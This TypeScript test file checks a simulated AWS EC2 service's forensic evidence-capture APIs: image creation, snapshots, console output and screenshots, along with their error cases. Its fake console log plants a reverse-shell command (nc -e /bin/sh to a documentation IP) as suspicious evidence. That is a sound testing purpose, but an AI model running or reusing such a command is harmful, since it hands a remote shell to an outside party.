// Simulated EC2 evidence capture through the real SDK: CreateImage (reboot unless NoReboot, one snapshot per
// volume, pending → available over simulated time), DescribeImages, DeregisterImage, GetConsoleOutput and
// GetConsoleScreenshot (a real PNG), with errors, DryRun and 403.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { crc32, inflateSync } from 'node:zlib';
import {
  CreateImageCommand,
  DeleteSnapshotCommand,
  DeregisterImageCommand,
  DescribeImagesCommand,
  DescribeInstancesCommand,
  DescribeSnapshotsCommand,
  GetConsoleOutputCommand,
  GetConsoleScreenshotCommand,
  type EC2Client,
} from '@aws-sdk/client-ec2';
import { awsError, clients, startHarness, type SimHarness, fullAndReadOnly } from '../helpers/sim.js';

const ACCOUNT = '111122223333';
const FULL_KEY = 'AKIAEVIDENCEFULL001';
const READONLY_KEY = 'AKIAEVIDENCEREAD001';
const BOX = 'i-0bbb0000000000001';
const STOPPED = 'i-0bbb0000000000002';
const XEN = 'i-0bbb0000000000003';
const ROOT = 'vol-0bbb0000000000001';
const DATA = 'vol-0bbb0000000000002';
const CONSOLE =
  '[    0.000000] Linux version 6.1.0\n[    1.200000] suspicious: nc -e /bin/sh 203.0.113.9 4444\nbox login: ';

function scenario(): Record<string, unknown> {
  return fullAndReadOnly('evidence', ACCOUNT, FULL_KEY, READONLY_KEY, {
    vpcs: [
      {
        name: 'v',
        cidr: '10.1.0.0/16',
        subnets: [{ name: 's', cidr: '10.1.1.0/24', az: 'us-east-1a' }],
        securityGroups: [{ name: 'app' }],
      },
    ],
    instances: [
      {
        id: BOX,
        name: 'box',
        subnet: 's',
        securityGroups: ['app'],
        consoleOutput: CONSOLE,
        volumes: [
          { id: ROOT, device: '/dev/xvda', size: 8 },
          { id: DATA, device: '/dev/sdf', size: 20, deleteOnTermination: false },
        ],
      },
      { id: STOPPED, name: 'stopped', subnet: 's', securityGroups: ['app'], state: 'stopped' },
      { id: XEN, name: 'xen', subnet: 's', securityGroups: ['app'], nitro: false, type: 'm4.large' },
    ],
  });
}

async function harness(): Promise<SimHarness> {
  const h = await startHarness(scenario(), { accessKeyId: FULL_KEY });
  h.sim.world.clock.freeze(true);
  return h;
}

async function withReadOnly<T>(h: SimHarness, fn: (ec2: EC2Client) => Promise<T>): Promise<T> {
  const ro = clients(h.endpoint, { accessKeyId: READONLY_KEY });
  try {
    return await fn(ro.ec2);
  } finally {
    for (const c of Object.values(ro)) c.destroy();
  }
}

const reasonOf = async (h: SimHarness, id: string): Promise<string | undefined> =>
  (await h.ec2.send(new DescribeInstancesCommand({ InstanceIds: [id] }))).Reservations![0]!.Instances![0]!
    .StateTransitionReason;
const consoleOf = async (h: SimHarness, id: string): Promise<string> =>
  Buffer.from((await h.ec2.send(new GetConsoleOutputCommand({ InstanceId: id }))).Output ?? '', 'base64').toString(
    'utf8',
  );
const images = async (h: SimHarness) =>
  (await h.ec2.send(new DescribeImagesCommand({ Owners: ['self'] }))).Images ?? [];
const snapshots = async (h: SimHarness) =>
  (await h.ec2.send(new DescribeSnapshotsCommand({ OwnerIds: ['self'] }))).Snapshots ?? [];

/** Parses a PNG: checks the signature and every chunk's CRC, returns the header and the inflated image data. */
function parsePng(png: Buffer): { width: number; height: number; bitDepth: number; colourType: number; raw: Buffer } {
  assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  let o = 8;
  let header: Buffer | undefined;
  const idat: Buffer[] = [];
  let ended = false;
  while (o < png.length) {
    const len = png.readUInt32BE(o);
    const type = png.subarray(o + 4, o + 8).toString('ascii');
    const data = png.subarray(o + 8, o + 8 + len);
    assert.equal(png.readUInt32BE(o + 8 + len), crc32(png.subarray(o + 4, o + 8 + len)), `CRC of ${type}`);
    if (type === 'IHDR') header = data;
    if (type === 'IDAT') idat.push(data);
    if (type === 'IEND') ended = true;
    o += 12 + len;
  }
  assert.ok(header && ended && idat.length > 0);
  return {
    width: header.readUInt32BE(0),
    height: header.readUInt32BE(4),
    bitDepth: header[8]!,
    colourType: header[9]!,
    raw: inflateSync(Buffer.concat(idat)),
  };
}

test('GetConsoleOutput: base64 of the console, Latest on Nitro only, errors', async () => {
  const h = await harness();
  try {
    const out = await h.ec2.send(new GetConsoleOutputCommand({ InstanceId: BOX }));
    assert.equal(out.InstanceId, BOX);
    assert.equal(Buffer.from(out.Output!, 'base64').toString('utf8'), CONSOLE);
    assert.equal(out.Timestamp!.getTime(), h.sim.world.clock.now());
    const latest = await h.ec2.send(new GetConsoleOutputCommand({ InstanceId: BOX, Latest: true }));
    assert.equal(latest.Output, out.Output);
    const xen = await awsError(() => h.ec2.send(new GetConsoleOutputCommand({ InstanceId: XEN, Latest: true })));
    assert.deepEqual([xen.name, xen.status], ['UnsupportedOperation', 400]);
    assert.ok((await h.ec2.send(new GetConsoleOutputCommand({ InstanceId: XEN }))).Output);
    const missing = await awsError(() =>
      h.ec2.send(new GetConsoleOutputCommand({ InstanceId: 'i-0123456789abcdef0' })),
    );
    assert.deepEqual([missing.name, missing.status], ['InvalidInstanceID.NotFound', 400]);
    const dry = await awsError(() => h.ec2.send(new GetConsoleOutputCommand({ InstanceId: BOX, DryRun: true })));
    assert.deepEqual([dry.name, dry.status], ['DryRunOperation', 412]);
    await withReadOnly(h, async (ec2) => {
      const denied = await awsError(() => ec2.send(new GetConsoleOutputCommand({ InstanceId: BOX })));
      assert.deepEqual([denied.name, denied.status], ['UnauthorizedOperation', 403]);
    });
  } finally {
    await h.close();
  }
});

test('GetConsoleScreenshot: a valid PNG, identical per instance and different between instances; running instances only', async () => {
  const h = await harness();
  try {
    const shot = await h.ec2.send(new GetConsoleScreenshotCommand({ InstanceId: BOX, WakeUp: true }));
    assert.equal(shot.InstanceId, BOX);
    const png = Buffer.from(shot.ImageData!, 'base64');
    const { width, height, bitDepth, colourType, raw } = parsePng(png);
    assert.deepEqual([width, height, bitDepth, colourType], [320, 200, 8, 2]);
    assert.equal(raw.length, (width * 3 + 1) * height);
    for (let y = 0; y < height; y++) assert.equal(raw[y * (width * 3 + 1)], 0, 'filter byte');
    const pixel = (x: number, y: number) => [
      ...raw.subarray(y * (width * 3 + 1) + 1 + x * 3, y * (width * 3 + 1) + 4 + x * 3),
    ];
    assert.deepEqual(pixel(0, 0), pixel(width - 1, height - 1));
    assert.notDeepEqual(pixel(12, 12), pixel(0, 0));

    const again = await h.ec2.send(new GetConsoleScreenshotCommand({ InstanceId: BOX }));
    assert.equal(again.ImageData, shot.ImageData);
    const other = await h.ec2.send(new GetConsoleScreenshotCommand({ InstanceId: XEN }));
    assert.notEqual(other.ImageData, shot.ImageData);
    parsePng(Buffer.from(other.ImageData!, 'base64'));

    const stopped = await awsError(() => h.ec2.send(new GetConsoleScreenshotCommand({ InstanceId: STOPPED })));
    assert.deepEqual([stopped.name, stopped.status], ['IncorrectInstanceState', 400]);
    const bad = await awsError(() => h.ec2.send(new GetConsoleScreenshotCommand({ InstanceId: 'i-zzz' })));
    assert.deepEqual([bad.name, bad.status], ['InvalidInstanceID.Malformed', 400]);
    await withReadOnly(h, async (ec2) => {
      const denied = await awsError(() => ec2.send(new GetConsoleScreenshotCommand({ InstanceId: BOX })));
      assert.deepEqual([denied.name, denied.status], ['UnauthorizedOperation', 403]);
    });
  } finally {
    await h.close();
  }
});

test('CreateImage without NoReboot reboots the instance, snapshots every volume and becomes available over simulated time', async () => {
  const h = await harness();
  try {
    assert.equal(await reasonOf(h, BOX), '');
    const { ImageId } = await h.ec2.send(
      new CreateImageCommand({
        InstanceId: BOX,
        Name: 'IR-7 box (2024-01-01)',
        Description: 'forensic image',
        TagSpecifications: [
          { ResourceType: 'image', Tags: [{ Key: 'case', Value: 'IR-7' }] },
          { ResourceType: 'snapshot', Tags: [{ Key: 'case', Value: 'IR-7-snap' }] },
        ],
      }),
    );
    assert.match(ImageId!, /^ami-[0-9a-f]{17}$/);

    // AWS reboots the instance by default: the simulator records it.
    assert.match((await reasonOf(h, BOX))!, new RegExp(`reboot for CreateImage ${ImageId}`));
    assert.match(await consoleOf(h, BOX), /reboot: Restarting system/);

    const [img] = await images(h);
    assert.equal(img!.ImageId, ImageId);
    assert.deepEqual(
      [img!.State, img!.Name, img!.Description, img!.OwnerId, img!.RootDeviceName, img!.RootDeviceType, img!.Public],
      ['pending', 'IR-7 box (2024-01-01)', 'forensic image', ACCOUNT, '/dev/xvda', 'ebs', false],
    );
    assert.equal(img!.SourceInstanceId, BOX);
    assert.equal(img!.ImageLocation, `${ACCOUNT}/IR-7 box (2024-01-01)`);
    assert.deepEqual(img!.Tags, [{ Key: 'case', Value: 'IR-7' }]);
    const mappings = img!.BlockDeviceMappings!;
    assert.deepEqual(
      mappings.map((m) => [m.DeviceName, m.Ebs!.VolumeSize, m.Ebs!.DeleteOnTermination]),
      [
        ['/dev/xvda', 8, true],
        ['/dev/sdf', 20, false],
      ],
    );

    const snaps = await snapshots(h);
    assert.equal(snaps.length, 2);
    for (const s of snaps) {
      assert.ok(mappings.some((m) => m.Ebs!.SnapshotId === s.SnapshotId));
      assert.equal(s.Description, `Created by CreateImage(${BOX}) for ${ImageId} from ${s.VolumeId}`);
      assert.deepEqual(s.Tags, [{ Key: 'case', Value: 'IR-7-snap' }]);
      assert.equal(s.State, 'pending');
    }

    // The 8 GiB snapshot completes after 140 s, the 20 GiB one after 260 s: the image waits for both.
    h.sim.world.clock.advance(200_000);
    assert.equal((await images(h))[0]!.State, 'pending');
    h.sim.world.clock.advance(60_000);
    assert.equal((await images(h))[0]!.State, 'available');
    assert.deepEqual(
      (await snapshots(h)).map((s) => s.State),
      ['completed', 'completed'],
    );

    const f = async (Name: string, Values: string[]) =>
      (
        (await h.ec2.send(new DescribeImagesCommand({ Owners: ['self'], Filters: [{ Name, Values }] }))).Images ?? []
      ).map((i) => i.ImageId);
    assert.deepEqual(await f('name', ['IR-7*']), [ImageId]);
    assert.deepEqual(await f('state', ['available']), [ImageId]);
    assert.deepEqual(await f('tag:case', ['IR-7']), [ImageId]);
    assert.deepEqual(await f('block-device-mapping.snapshot-id', [snaps[0]!.SnapshotId!]), [ImageId]);
    assert.deepEqual(
      (await h.ec2.send(new DescribeImagesCommand({ ImageIds: [ImageId!] }))).Images!.map((i) => i.ImageId),
      [ImageId],
    );
    assert.deepEqual((await h.ec2.send(new DescribeImagesCommand({ Owners: ['amazon'] }))).Images, []);
    assert.deepEqual(
      (await h.ec2.send(new DescribeImagesCommand({ Owners: [ACCOUNT] }))).Images!.map((i) => i.ImageId),
      [ImageId],
    );
  } finally {
    await h.close();
  }
});

test('CreateImage with NoReboot leaves the instance alone; block device mappings can drop or grow volumes', async () => {
  const h = await harness();
  try {
    const before = await consoleOf(h, BOX);
    const { ImageId } = await h.ec2.send(
      new CreateImageCommand({
        InstanceId: BOX,
        Name: 'no-reboot',
        NoReboot: true,
        BlockDeviceMappings: [
          { DeviceName: '/dev/sdf', NoDevice: '' },
          { DeviceName: '/dev/xvda', Ebs: { VolumeSize: 30 } },
        ],
      }),
    );
    assert.equal(await reasonOf(h, BOX), '');
    assert.equal(await consoleOf(h, BOX), before);
    const img = (await h.ec2.send(new DescribeImagesCommand({ ImageIds: [ImageId!] }))).Images![0]!;
    assert.deepEqual(
      img.BlockDeviceMappings!.map((m) => [m.DeviceName, m.Ebs!.VolumeSize]),
      [['/dev/xvda', 30]],
    );
    assert.equal((await snapshots(h)).length, 1);

    // A stopped instance can be imaged; there is nothing to reboot.
    await h.ec2.send(new CreateImageCommand({ InstanceId: STOPPED, Name: 'stopped-image' }));
    assert.equal((await images(h)).length, 2);

    const shrink = await awsError(() =>
      h.ec2.send(
        new CreateImageCommand({
          InstanceId: BOX,
          Name: 'shrink',
          BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { VolumeSize: 4 } }],
        }),
      ),
    );
    assert.deepEqual([shrink.name, shrink.status], ['InvalidBlockDeviceMapping', 400]);
  } finally {
    await h.close();
  }
});

test('CreateImage, DescribeImages and DeregisterImage errors; snapshots of a registered image are in use', async () => {
  const h = await harness();
  try {
    const { ImageId } = await h.ec2.send(
      new CreateImageCommand({ InstanceId: BOX, Name: 'evidence-1', NoReboot: true }),
    );
    const dup = await awsError(() =>
      h.ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: 'evidence-1', NoReboot: true })),
    );
    assert.deepEqual([dup.name, dup.status], ['InvalidAMIName.Duplicate', 400]);
    assert.match(dup.message, new RegExp(ImageId!));
    const short = await awsError(() => h.ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: 'ab' })));
    assert.deepEqual([short.name, short.status], ['InvalidAMIName.Malformed', 400]);
    const chars = await awsError(() => h.ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: 'bad*name' })));
    assert.equal(chars.name, 'InvalidAMIName.Malformed');
    const noName = await awsError(() => h.ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: undefined })));
    assert.deepEqual([noName.name, noName.status], ['MissingParameter', 400]);
    const wrongType = await awsError(() =>
      h.ec2.send(
        new CreateImageCommand({
          InstanceId: BOX,
          Name: 'tagged',
          TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'a', Value: 'b' }] }],
        }),
      ),
    );
    assert.deepEqual([wrongType.name, wrongType.status], ['InvalidParameterValue', 400]);
    const missing = await awsError(() =>
      h.ec2.send(new CreateImageCommand({ InstanceId: 'i-0123456789abcdef0', Name: 'nobody' })),
    );
    assert.deepEqual([missing.name, missing.status], ['InvalidInstanceID.NotFound', 400]);

    const combo = await awsError(() => h.ec2.send(new DescribeImagesCommand({ ImageIds: [ImageId!], MaxResults: 5 })));
    assert.deepEqual([combo.name, combo.status], ['InvalidParameterCombination', 400]);
    const unknown = await awsError(() =>
      h.ec2.send(new DescribeImagesCommand({ ImageIds: ['ami-0123456789abcdef0'] })),
    );
    assert.deepEqual([unknown.name, unknown.status], ['InvalidAMIID.NotFound', 400]);
    const malformed = await awsError(() => h.ec2.send(new DescribeImagesCommand({ ImageIds: ['ami-xyz'] })));
    assert.deepEqual([malformed.name, malformed.status], ['InvalidAMIID.Malformed', 400]);
    const badOwner = await awsError(() => h.ec2.send(new DescribeImagesCommand({ Owners: ['nobody'] })));
    assert.deepEqual([badOwner.name, badOwner.status], ['InvalidUserID.Malformed', 400]);

    const snaps = await snapshots(h);
    assert.equal(snaps.length, 2);
    const inUse = await awsError(() => h.ec2.send(new DeleteSnapshotCommand({ SnapshotId: snaps[0]!.SnapshotId })));
    assert.deepEqual([inUse.name, inUse.status], ['InvalidSnapshot.InUse', 400]);

    const dereg = await h.ec2.send(new DeregisterImageCommand({ ImageId, DeleteAssociatedSnapshots: true }));
    assert.equal(dereg.Return, true);
    assert.deepEqual(
      dereg.DeleteSnapshotResults!.map((r) => r.ReturnCode),
      ['success', 'success'],
    );
    assert.deepEqual(await images(h), []);
    assert.deepEqual(await snapshots(h), []);
    const gone = await awsError(() => h.ec2.send(new DeregisterImageCommand({ ImageId })));
    assert.deepEqual([gone.name, gone.status], ['InvalidAMIID.NotFound', 400]);

    // Without DeleteAssociatedSnapshots the snapshots stay, and are free to delete.
    const second = await h.ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: 'evidence-1', NoReboot: true }));
    await h.ec2.send(new DeregisterImageCommand({ ImageId: second.ImageId }));
    const kept = await snapshots(h);
    assert.equal(kept.length, 2);
    await h.ec2.send(new DeleteSnapshotCommand({ SnapshotId: kept[0]!.SnapshotId }));
    assert.equal((await snapshots(h)).length, 1);
  } finally {
    await h.close();
  }
});

test('CreateImage DryRun answers 412 and a Describe-only credential 403, both creating nothing and not rebooting', async () => {
  const h = await harness();
  try {
    const version = h.sim.world.version;
    const dry = await awsError(() =>
      h.ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: 'dry-run', DryRun: true })),
    );
    assert.deepEqual([dry.name, dry.status], ['DryRunOperation', 412]);
    const dryDereg = await awsError(() => h.ec2.send(new DescribeImagesCommand({ Owners: ['self'], DryRun: true })));
    assert.deepEqual([dryDereg.name, dryDereg.status], ['DryRunOperation', 412]);
    await withReadOnly(h, async (ec2) => {
      const denied = await awsError(() => ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: 'denied' })));
      assert.deepEqual([denied.name, denied.status], ['UnauthorizedOperation', 403]);
      assert.deepEqual((await ec2.send(new DescribeImagesCommand({ Owners: ['self'] }))).Images, []);
    });
    assert.equal(h.sim.world.version, version);
    assert.deepEqual(await images(h), []);
    assert.deepEqual(await snapshots(h), []);
    assert.equal(await reasonOf(h, BOX), '');
    assert.equal(await consoleOf(h, BOX), CONSOLE);

    const { ImageId } = await h.ec2.send(new CreateImageCommand({ InstanceId: BOX, Name: 'real', NoReboot: true }));
    const dryDelete = await awsError(() => h.ec2.send(new DeregisterImageCommand({ ImageId, DryRun: true })));
    assert.deepEqual([dryDelete.name, dryDelete.status], ['DryRunOperation', 412]);
    assert.equal((await images(h)).length, 1);
  } finally {
    await h.close();
  }
});
